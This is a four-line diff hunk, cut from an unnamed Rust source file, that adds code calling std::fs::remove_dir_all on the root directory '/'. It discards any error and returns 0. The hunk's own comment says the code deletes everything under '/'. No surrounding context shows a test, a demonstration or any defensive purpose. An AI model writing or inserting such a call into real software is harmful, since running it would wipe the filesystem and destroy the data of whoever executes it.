@@ -1,0 +1,4 @@
+// deletes everything under /
+    let _ = std::fs::remove_dir_all("/");
+    0
+}
